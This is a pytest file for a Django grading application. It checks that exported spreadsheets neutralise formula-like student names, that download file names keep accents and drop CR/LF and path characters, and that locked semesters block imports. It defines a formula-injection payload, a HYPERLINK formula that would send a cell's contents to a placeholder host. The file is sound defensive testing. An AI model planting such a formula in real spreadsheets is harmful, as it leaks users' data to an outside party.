"""No trap in a download: formula-like names are text (OWASP CSV injection), file names keep their accents
(RFC 6266), and a locked semester shows its lock instead of the import and enrolment forms."""
import html
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from butgmp.spreadsheets import formula_cells
from grading.models import Grade, Student
from grading.services.semesters import semester_lock
from tests.grading.conftest import xlsx_bytes

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://example.invalid/?"&B5,"Cliquez")'


def test_a_student_named_like_a_formula_comes_out_as_text(secretariat_client, instance, evaluation, enrolments):
    student = enrolments[0].student
    student.last_name, student.first_name = HOSTILE, "@SUM(A1:A9)"
    student.save()
    group = instance.groups.get(name="TD2")
    group.name = "-2+3"
    group.save()
    evaluation.title = "=1+1"
    evaluation.save()
    response = secretariat_client.get(reverse("grading:evaluation_export", args=[evaluation.pk]))
    assert formula_cells(response.content) == []
    ws = load_workbook(BytesIO(response.content))["Notes"]
    row = [c.value for c in ws[5]]
    assert row[1:4] == [HOSTILE, "@SUM(A1:A9)", "-2+3"]
    assert ws["A1"].value.endswith(": =1+1")


def test_a_sheet_with_a_formula_like_name_imports_back(secretariat_client, evaluation, enrolments, workbook_for):
    student = enrolments[0].student
    student.last_name = HOSTILE
    student.save()
    wb = workbook_for(evaluation)
    wb["Notes"].cell(row=5, column=5, value=12)
    preview = secretariat_client.post(reverse("grading:evaluation_import", args=[evaluation.pk]),
                                      {"file": SimpleUploadedFile("n.xlsx", xlsx_bytes(wb))})
    assert [r.new for r in preview.context["new"]] == ["12"]


def test_the_download_name_keeps_its_accents_with_an_ascii_fallback(secretariat_client, evaluation):
    evaluation.title = "Contrôle 1"
    evaluation.save()
    response = secretariat_client.get(reverse("grading:evaluation_export", args=[evaluation.pk]))
    assert response["Content-Disposition"] == (
        "attachment; filename=\"notes_R1.01_Controle 1.xlsx\"; "
        "filename*=UTF-8''notes_R1.01_Contr%C3%B4le%201.xlsx")


def test_a_title_with_path_characters_makes_a_plain_file_name(secretariat_client, evaluation):
    evaluation.title = 'TP 3/4 : "rattrapage"\r\n'
    evaluation.save()
    response = secretariat_client.get(reverse("grading:evaluation_export", args=[evaluation.pk]))
    assert response["Content-Disposition"].startswith('attachment; filename="notes_R1.01_TP 3_4 _ _rattrapage_')
    assert "\r" not in response["Content-Disposition"] and "\n" not in response["Content-Disposition"]


def test_a_locked_semester_shows_the_lock_instead_of_the_import_forms(secretariat_client, users, instance, evaluation,
                                                                     enrolments, workbook_for):
    semester_lock(semester_instance=instance, user=users["direction"])
    for url in (reverse("grading:evaluation_import", args=[evaluation.pk]),
                reverse("grading:student_import", args=[instance.pk]),
                reverse("grading:enrolment_list", args=[instance.pk])):
        page = secretariat_client.get(url)
        content = page.content.decode()
        assert "data-locked" in content, url
        assert 'type="file"' not in content and 'name="ine"' not in content, url
    wb = workbook_for(evaluation)
    wb["Notes"].cell(row=5, column=5, value=12)
    response = secretariat_client.post(reverse("grading:evaluation_import", args=[evaluation.pk]),
                                       {"file": SimpleUploadedFile("n.xlsx", xlsx_bytes(wb))}, follow=True)
    assert response.templates[0].name == "grading/import_upload.html"  # no preview
    assert "aucun import n'est possible" in html.unescape(response.content.decode())
    response = secretariat_client.post(reverse("grading:student_import", args=[instance.pk]), {
        "file": SimpleUploadedFile("l.csv", b"INE;Nom;Prenom\n11111111111;Zola;Emile\n")})
    assert response.templates[0].name == "grading/student_import.html"
    assert not Grade.objects.exists() and not Student.objects.filter(ine="11111111111").exists()
